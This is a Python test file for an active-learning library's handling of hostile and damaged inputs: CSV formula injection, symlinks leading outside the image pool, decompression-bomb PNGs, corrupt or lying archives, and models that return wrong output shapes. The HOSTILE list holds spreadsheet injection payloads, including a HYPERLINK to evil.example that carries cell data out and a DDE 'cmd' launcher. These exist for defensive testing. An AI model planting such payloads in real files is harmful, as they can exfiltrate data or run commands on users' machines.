"""Hostile and damaged inputs (issue 26): one test per kind, each on small synthetic files.

Formula injection in the CSVs people open, numeric class names, 16-bit and EXIF-rotated
images, hidden and tool files, symbolic links, damaged or lying archives, decompression
bombs, stray labels, mis-shaped arrays, label files edited after they were read, starting
labels edited while a request is out, a workdir inside the image folder, models whose
outputs lie about their shape, core-set with no labeled point, BADGE under float64, NaN
outputs blamed on the model. Nothing here trains but the NaN test (one epoch, 16 points).
"""

import csv
import io
import os
import struct
import warnings
import zipfile
import zlib

import jax
import jax.numpy as jnp
import numpy as np
import pytest
from PIL import Image

from lookahead_jax import config, data, loop, models, oracles, resume, strategies, train
from lookahead_jax.strategies import diversity
from lookahead_jax.workdir import Workdir

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open").png', "+cmd|' /C calc'!A0.png",
           "-2+3.png", "@SUM(A1:A2).png", "\tx.png", "\rx.png", "'=quoted.png", "plain.png",
           "'apostrophe.png", "new\nline.png", "comma,quote\".png"]


# ------------------------------------------------------------------ CSV for people


def test_neutralise_is_the_owasp_rule_and_restore_inverts_it():
    for s in HOSTILE + ["", "'", "''", "a'b", "=", "1", "-"]:
        out = oracles.neutralise(s)
        assert oracles.restore(out) == s
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r")), s
        assert (out == s) == (not s.startswith(("=", "+", "-", "@", "\t", "\r", "'")))


def test_request_file_is_neutralised_and_answers_round_trip(tmp_path):
    o = oracles.FileOracle(str(tmp_path), HOSTILE, 3, ("cat", "dog", "-ve"))
    with pytest.raises(oracles.LabelsNeeded) as need:
        o.ask(np.arange(len(HOSTILE)), "cycle_0")
    with open(need.value.request, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["index", "item"]
    for (i, cell), name in zip(rows[1:], HOSTILE):
        assert cell == oracles.neutralise(name)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert (tmp_path / "to_label" / "cycle_0.txt").read_text().strip() == \
        need.value.instructions()
    # the person adds a label column in the spreadsheet and saves it as the answer; a
    # class name starting with '-' comes back with the spreadsheet's quote or without
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["index", "item", "label"])
    for (i, cell), k in zip(rows[1:], range(len(HOSTILE))):
        w.writerow([i, cell, ["cat", "'-ve", "-ve"][k % 3]])
    answer = tmp_path / "labels" / "cycle_0.csv"
    answer.write_text(buf.getvalue(), encoding="utf-8")
    got = o.ask(np.arange(len(HOSTILE)), "cycle_0")
    np.testing.assert_array_equal(got, [[0, 2, 2][k % 3] for k in range(len(HOSTILE))])
    # a row whose item is not the requested one (rows shifted) is refused, naming it
    answer.write_text(buf.getvalue().replace("plain.png", "other.png"), encoding="utf-8")
    with pytest.raises(ValueError, match=r"index 7 is item 'plain.png' in the request"):
        o.ask(np.arange(len(HOSTILE)), "cycle_0")


def test_a_huge_field_in_a_label_file_is_one_line(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("index,label\n0," + "x" * (1 << 21) + "\n")
    with pytest.raises(ValueError, match=r"labels.csv: line 2: not a CSV row \(a field of "
                                         r"more than \d+ characters"):
        oracles.read_label_file(str(path), [0], 3)


def test_numeric_class_names_make_every_label_a_name(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("index,label\n4,2\n5,3\n")
    names = ("1", "2", "3")
    np.testing.assert_array_equal(oracles.read_label_file(str(path), [4, 5], 3, names),
                                  [1, 2])                  # names, not positions
    path.write_text("index,label\n4,0\n5,3\n")
    with pytest.raises(ValueError, match=r"line 2: '0' is not a class name; the classes are "
                                         r"named 1, 2, 3"):
        oracles.read_label_file(str(path), [4, 5], 3, names)
    need = oracles.LabelsNeeded("r.csv", "a.csv", 2, names, 3)
    assert "never a class's position" in need.instructions()
    assert "or its number 0-1" in oracles.LabelsNeeded("r", "a", 1, ("cat", "dog")).instructions()
    path.write_text("index,label\n4,1\n5,dog\n")               # names are words: both forms
    np.testing.assert_array_equal(oracles.read_label_file(str(path), [4, 5], 2, ("cat", "dog")),
                                  [1, 1])


def test_a_label_file_corrected_after_it_was_read_is_said(tmp_path):
    o = oracles.FileOracle(str(tmp_path), [f"{i}.png" for i in range(6)], 2, ("cat", "dog"))
    (tmp_path / "labels").mkdir()
    (tmp_path / "labels" / "cycle_0.csv").write_text("index,label\n1,cat\n2,dog\n")
    known = {1: 0, 2: 1, 4: 0}
    assert o.changed_answers(known) == []
    (tmp_path / "labels" / "cycle_0.csv").write_text("index,label\n1,dog\n2,dog\n")
    notes = o.changed_answers(known)
    assert len(notes) == 1 and "cycle_0.csv was changed after its labels were taken in: " \
        "1 label differs" in notes[0]
    assert "index 1: recorded 'cat', the file now says 'dog'" in notes[0]


# ------------------------------------------------------------------ image folders


def _folder(root, n=3, size=8, seed=0):
    rng = np.random.default_rng(seed)
    for c in ("a", "b"):
        (root / c).mkdir(parents=True, exist_ok=True)
        for i in range(n):
            Image.fromarray(rng.integers(0, 256, (size, size), dtype=np.uint8)).save(
                root / c / f"{i}.png")
    return root


def _standardised(x):
    """float64 twin of the loader's standardisation (pool mean and std per channel)."""
    x = np.asarray(x, np.float64)
    flat = x.reshape(-1, x.shape[-1])
    std = flat.std(0)
    return (x - flat.mean(0)) / np.where(std > 0, std, 1.0)


def test_16_bit_greyscale_is_scaled_by_its_range_not_clipped(tmp_path):
    rng = np.random.default_rng(1)
    raw = rng.integers(0, 65536, (4, 8, 8)).astype(np.uint16)
    for k, c in enumerate(("a", "b")):
        (tmp_path / c).mkdir()
        for i in range(2):
            Image.fromarray(raw[2 * k + i]).save(tmp_path / c / f"{i}.png")
    assert Image.open(tmp_path / "a" / "0.png").mode.startswith("I")
    ds = data.load_folder(str(tmp_path))
    assert len(np.unique(ds.x_train)) > 200          # clipped at 255 it would be 2 values
    np.testing.assert_allclose(ds.x_train, _standardised(raw[..., None] / 65535.0),
                               atol=2e-5)            # float32 rounding of values |x| < 4


def test_exif_orientation_is_applied(tmp_path):
    _folder(tmp_path)
    img = np.random.default_rng(2).integers(0, 256, (8, 8), dtype=np.uint8)
    im = Image.fromarray(img)
    exif = im.getexif()
    exif[0x0112] = 6                                  # "rotate 90° clockwise to view"
    im.save(tmp_path / "a" / "z.png", exif=exif.tobytes())
    twin = tmp_path.parent / (tmp_path.name + "_twin")
    _folder(twin)
    Image.fromarray(np.rot90(img, -1).copy()).save(twin / "a" / "z.png")
    a, b = data.load_folder(str(tmp_path)), data.load_folder(str(twin))
    assert a.items == b.items
    np.testing.assert_array_equal(a.x_train, b.x_train)


def test_hidden_files_and_tool_folders_are_skipped_and_counted(tmp_path):
    _folder(tmp_path)
    (tmp_path / ".ipynb_checkpoints").mkdir()
    (tmp_path / "a" / ".ipynb_checkpoints").mkdir()
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(tmp_path / "a" / ".ipynb_checkpoints"
                                                     / "0-checkpoint.png")
    (tmp_path / "a" / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    (tmp_path / "__MACOSX" / "a").mkdir(parents=True)
    (tmp_path / "__MACOSX" / "a" / "._0.png").write_bytes(b"\0\5\26\7 not a png")
    ds = data.load_folder(str(tmp_path))
    assert ds.class_names == ("a", "b") and len(ds.x_train) == 6
    assert len(ds.notes) == 1 and "skipped 4 hidden or tool entries" in ds.notes[0], ds.notes


def test_symbolic_links_are_followed_only_inside_the_pool(tmp_path):
    root = _folder(tmp_path / "pool")
    _folder(tmp_path / "elsewhere", seed=1)
    (root / "unlabeled").mkdir()
    os.symlink(tmp_path / "elsewhere" / "a", root / "unlabeled" / "more")
    with pytest.raises(ValueError, match=r"unlabeled/more is a symbolic link to .*, outside "
                                         r"the pool's folder"):
        data.load_folder(str(root))
    os.unlink(root / "unlabeled" / "more")
    os.symlink("../a", root / "unlabeled" / "again")
    with pytest.raises(ValueError, match=r"unlabeled/again/0.png and a/0.png are the same "
                                         r"file"):
        data.load_folder(str(root))
    os.unlink(root / "unlabeled" / "again")
    (root / "store").mkdir()
    (root / "b").rename(root / "store" / "b")
    os.symlink("store/b", root / "b")                 # a class folder linked from inside
    (root / "store").rename(root / ".store")          # (hidden: not a class of its own)
    os.unlink(root / "b")
    os.symlink(".store/b", root / "b")
    ds = data.load_folder(str(root))
    assert ds.items[-1] == "b/2.png" and len(ds.x_train) == 6


def _png_header(width, height):
    def chunk(tag, body):
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0,
                                                              0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def test_a_decompression_bomb_and_a_truncated_image_name_the_file(tmp_path):
    _folder(tmp_path)
    (tmp_path / "b" / "bomb.png").write_bytes(_png_header(20000, 20000))
    with pytest.raises(ValueError, match=r"image b/bomb.png is too large to decode safely"):
        data.load_folder(str(tmp_path))
    os.unlink(tmp_path / "b" / "bomb.png")
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (64, 64), dtype=np.uint8)).save(
        tmp_path / "b" / "cut.png")
    whole = (tmp_path / "b" / "cut.png").read_bytes()
    (tmp_path / "b" / "cut.png").write_bytes(whole[:len(whole) // 2])
    with pytest.raises(ValueError, match=r"cannot read image b/cut.png \(image file is "
                                         r"truncated\)"):
        data.load_folder(str(tmp_path))


def test_a_workdir_inside_the_image_folder_is_refused_before_loading(tmp_path, monkeypatch):
    root = _folder(tmp_path / "pics")
    monkeypatch.setattr(data, "load_folder", lambda p: pytest.fail("loaded the images"))
    cfg = loop.LoopConfig(dataset=f"folder:{root}", oracle="files", cycles=2, initial_size=2,
                          query_size=1, subset_size=2)
    for run in (lambda: loop.run(cfg, str(root / "runs" / "x"), log=lambda s: None),
                lambda: loop.run_strategies(cfg, ["random"], str(root / "r"),
                                            log=lambda s: None)):
        with pytest.raises(ValueError, match=r"is inside the image folder folder:.*pics: the "
                                             r"run's own files would join the pool"):
            run()


# ------------------------------------------------------------------ archives


def _npz_cases(tmp_path):
    x = np.random.default_rng(0).normal(size=(12, 3)).astype(np.float32)
    good = tmp_path / "good.npz"
    np.savez(good, x=x, y=np.arange(12) % 2)
    whole = good.read_bytes()
    flipped = bytearray(whole)
    flipped[whole.index(b"\x93NUMPY") + 130] ^= 0xFF
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False,
                                                  "shape": (120_000_000_000,)})
    huge = io.BytesIO()
    with zipfile.ZipFile(huge, "w") as z:
        z.writestr("x.npy", header.getvalue() + b"\0" * 64)
    npy = io.BytesIO()
    np.save(npy, x)
    objects = io.BytesIO()
    np.savez(objects, x=x, class_names=np.array(["a", None], dtype=object))
    return {"truncated": (whole[:len(whole) // 2], r"damaged .npz archive"),
            "bad_crc": (bytes(flipped), r"array 'x' cannot be read \(Bad CRC-32"),
            "zero_bytes": (b"", r"the file is empty \(0 bytes"),
            "text": (b"index,label\n0,cat\n", r"not an .npz archive .*it reads as text"),
            "npy": (npy.getvalue(), r"is one .npy array, not an .npz archive"),
            "480_GB_header": (huge.getvalue(), r"array 'x' claims shape \(120000000000,\) "
                                               r"float32 \(480 GB\) but the archive holds 64"),
            "pickled": (objects.getvalue(), r"array 'class_names' holds Python objects .* "
                                            r"never unpickled")}


@pytest.mark.parametrize("case", ["truncated", "bad_crc", "zero_bytes", "text", "npy",
                                  "480_GB_header", "pickled"])
def test_damaged_or_lying_archives_are_one_line_and_nothing_is_allocated(tmp_path, case):
    content, message = _npz_cases(tmp_path)[case]
    path = tmp_path / f"{case}.npz"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=rf"^npz:{path}: {message}"):
        data.load_dataset(f"npz:{path}")
    assert data.load_npz(str(tmp_path / "good.npz")).x_train.shape == (12, 3)


def test_mis_shaped_arrays_name_the_array(tmp_path):
    x = np.zeros((10, 3), np.float32)
    for kw, message in (
            (dict(x=np.float32(3)), r"x must be \(N, ...\) with an example axis .* got shape "
                                    r"\(\)"),
            (dict(x=np.zeros(10)), r"got shape \(10,\); for one feature per example use "
                                   r"x\[:, None\]"),
            (dict(x=x, x_test=np.zeros((4, 2)), y_test=np.zeros(4, int)),
             r"x holds examples of shape \(3,\) but x_test \(2,\)"),
            (dict(x=x, y=np.zeros(9, int)), r"y has 9 labels for the 10 examples of x"),
            (dict(x=x, y=np.zeros((10, 2), int)), r"y must be 1-D, one label per example")):
        np.savez(tmp_path / "p.npz", **kw)
        with pytest.raises(ValueError, match=r"invalid dataset 'npz:p.npz': (.* )?" + message):
            data.load_npz(str(tmp_path / "p.npz"))


def test_a_stray_label_outside_the_named_classes_is_refused(tmp_path):
    x = np.random.default_rng(0).normal(size=(30, 3))
    y = np.r_[np.arange(29) % 3, 7]
    with pytest.raises(ValueError, match=r"the labels are 0-2, 7: classes 3-6 never occur"):
        data.from_arrays(x, y)
    assert data.from_arrays(x, y, num_classes=8).num_classes == 8   # said explicitly: fine
    np.savez(tmp_path / "p.npz", x=x, y=y, num_classes=8)
    assert data.load_npz(str(tmp_path / "p.npz")).num_classes == 8
    assert data.from_arrays(x, np.r_[np.arange(29) % 3, -1]).num_classes == 3


# ------------------------------------------------------------------ runs and records


def test_starting_labels_edited_while_a_request_is_out_are_refused(tmp_path):
    with Workdir.open(str(tmp_path / "w")) as wd:
        for i in (0, 1, 2):
            wd.append("labels", {"cycle": -1, "index": i, "label": i % 2, "source": "given"})
        resume.check_initial_set(wd, np.array([0, 1, 2]))          # unchanged
        resume.check_initial_set(wd, np.array([0, 1, 2, 3]))       # a batch cut short: fine
        wd.save_pending({"cycle": 0, "row": {}})                  # a request is out
        with pytest.raises(ValueError, match=r"starting labels changed under the run: .* "
                                             r"started from 3 labeled items, the pool now "
                                             r"gives 4 \(pool item 3 is newly labeled\)"):
            resume.check_initial_set(wd, np.array([0, 1, 2, 3]))
        with pytest.raises(ValueError, match=r"pool item 2 is no longer labeled"):
            resume.check_initial_set(wd, np.array([0, 1]))


def test_max_train_below_the_labels_a_run_needs_is_refused_before_loading():
    cfg = loop.LoopConfig(dataset="digits", max_train=10, initial_size=20, cycles=2,
                          query_size=5, subset_size=10)
    with pytest.raises(ValueError, match=r"max_train \(10\) keeps fewer pool examples than "
                                         r"the run labels: .* = 25; raise --max_train"):
        config.validate_config(cfg)


# ------------------------------------------------------------------ models that lie


def _model(out):
    """A linear model on (n, 4) inputs whose apply returns ``out(logits)``."""
    def f(p, x):
        return out(x.reshape(x.shape[0], -1) @ p["w"])
    return models.from_function(f, params={"w": jnp.ones((4, 3)) / 4}, name="liar",
                                embed=lambda p, x: x.reshape(x.shape[0], -1))


LIARS = {"C - 1 columns": (lambda z: z[:, :2], r"returns shape \(2, 2\) for 2 inputs; it must "
                                                r"return \(2, 3\): one column per class"),
         "(n,)": (lambda z: z[:, 0], r"returns shape \(2,\) for 2 inputs"),
         "one row for any batch": (lambda z: z.mean(0, keepdims=True),
                                   r"returns shape \(1, 3\) .* one row per input")}


@pytest.mark.parametrize("liar", list(LIARS))
def test_model_outputs_are_checked_before_training_and_in_the_strategy_api(liar, monkeypatch):
    out, message = LIARS[liar]
    model = _model(out)
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4)).astype(np.float32)
    ds = data.Dataset("toy", x, np.arange(40, dtype=np.int32) % 3, None, None, 3)
    monkeypatch.setattr(train, "fit", lambda *a, **k: pytest.fail("trained"))
    cfg = loop.LoopConfig(strategy="entropy", cycles=2, initial_size=6, query_size=2,
                          subset_size=10)
    with pytest.raises(ValueError, match=r"model 'liar': apply " + message):
        loop.run(cfg, None, dataset=ds, model=model, log=lambda s: None)
    good = _model(lambda z: z)
    for name in ("entropy", "mlmoc", "coreset"):
        ctx = strategies.AcquisitionContext(
            model=model, params={"w": jnp.ones((4, 3)) / 4}, x_labeled=x[:6],
            y_labeled=np.arange(6) % 3, x_candidates=x[6:], num_classes=3, query_size=2,
            key=jax.random.key(0))
        with pytest.raises(ValueError, match=rf"strategy '{name}': model 'liar': apply"):
            strategies.get(name)(ctx)
    ctx = strategies.AcquisitionContext(model=good, params={"w": jnp.ones((4, 3)) / 4},
                                        x_labeled=x[:6], y_labeled=np.arange(6) % 2,
                                        x_candidates=x[6:], num_classes=2, query_size=2,
                                        key=jax.random.key(0))
    with pytest.raises(ValueError, match=r"the data have 2 classes, it gives 3 \(build it "
                                         r"with num_classes=2\)"):
        strategies.get("entropy")(ctx)                   # num_classes that does not match


def test_coreset_runs_with_an_empty_labeled_set_like_kcenter_greedy():
    x = np.random.default_rng(3).normal(size=(20, 4)).astype(np.float32)
    model = _model(lambda z: z)
    ctx = strategies.AcquisitionContext(model=model, params={"w": jnp.ones((4, 3)) / 4},
                                        x_labeled=x[:0], y_labeled=np.zeros(0, np.int32),
                                        x_candidates=x, num_classes=3, query_size=5,
                                        key=jax.random.key(0), labeled_capacity=9)
    sel = strategies.get("coreset")(ctx)
    want, _ = diversity.kcenter_greedy(jnp.asarray(x), jnp.zeros((0, 4)), 5)
    np.testing.assert_array_equal(sel.indices, np.asarray(want))
    # float64 brute force of the same greedy rule: first pick 0, then farthest from picks
    picks = [0]
    for _ in range(4):
        d = np.min(((x[:, None].astype(np.float64) - x[picks][None]) ** 2).sum(-1), 1)
        d[picks] = -1
        picks.append(int(np.argmax(d)))
    np.testing.assert_array_equal(sel.indices, picks)


def test_badge_seeding_under_float64_writes_no_int64_into_int32():
    rng = np.random.default_rng(4)
    with jax.enable_x64(True), warnings.catch_warnings():
        warnings.simplefilter("error")                   # JAX's FutureWarning: an error
        g = jnp.asarray(rng.normal(size=(30, 3)))
        h = jnp.asarray(rng.normal(size=(30, 5)))
        idx = diversity.kmeans_pp_outer(g, h, jax.random.key(0), 6)
        assert idx.dtype == jnp.int32 and len(set(np.asarray(idx).tolist())) == 6
        e = np.asarray(diversity.badge_embeddings(g, h, "mse"))
    assert int(idx[0]) == int(np.argmax((e ** 2).sum(-1)))   # largest-norm embedding first


def test_nan_outputs_are_blamed_on_the_model_not_the_learning_rate():
    model = _model(lambda z: jnp.where(z[:, :1] > 0, jnp.nan, z))
    x = np.random.default_rng(5).normal(size=(16, 4)).astype(np.float32)
    cfg = train.TrainConfig(epochs=1, batch_size=8)
    state = train.create_train_state(model, model.init(jax.random.key(0), x[:1]), cfg)
    with pytest.raises(FloatingPointError, match=r"the model's outputs are NaN or inf before "
                                                 r"any training step, for \d+ of 16 labeled "
                                                 r"inputs .* not the learning rate"):
        train.fit(state, x, np.arange(16) % 3, cfg, key=jax.random.key(1))


def test_the_loop_says_what_loading_skipped_and_which_answer_file_was_edited(tmp_path,
                                                                           monkeypatch):
    x = np.random.default_rng(6).normal(size=(40, 4))
    ds = data.from_arrays(x, None, num_classes=2, notes=("folder:pics: skipped 2 hidden",))
    cfg = loop.LoopConfig(strategy="random", oracle="files", cycles=2, initial_size=4,
                          query_size=2, subset_size=4)
    w = str(tmp_path / "w")
    said = []
    with pytest.raises(oracles.LabelsNeeded) as need:
        loop.run(cfg, w, dataset=ds, log=said.append)
    assert said[0] == "folder:pics: skipped 2 hidden"
    with open(need.value.request, newline="") as fh:
        asked = [int(r["index"]) for r in csv.DictReader(fh)]
    answer = tmp_path / "w" / "labels" / "initial.csv"
    answer.write_text("index,label\n" + "".join(f"{i},{k % 2}\n" for k, i in enumerate(asked)))

    def stop(*a, **k):
        raise RuntimeError("stop before training")
    monkeypatch.setattr(train, "fit", stop)
    with pytest.raises(RuntimeError, match="stop before training"):
        loop.run(cfg, w, dataset=ds, log=said.append)       # the answers are recorded
    answer.write_text("index,label\n" + "".join(f"{i},{1 - k % 2}\n"
                                                  for k, i in enumerate(asked)))
    said.clear()
    with pytest.raises(RuntimeError, match="stop before training"):
        loop.run(cfg, w, dataset=ds, log=said.append)
    changed = [s for s in said if "was changed after its labels were taken in" in s]
    assert len(changed) == 1 and "4 labels differ" in changed[0], said
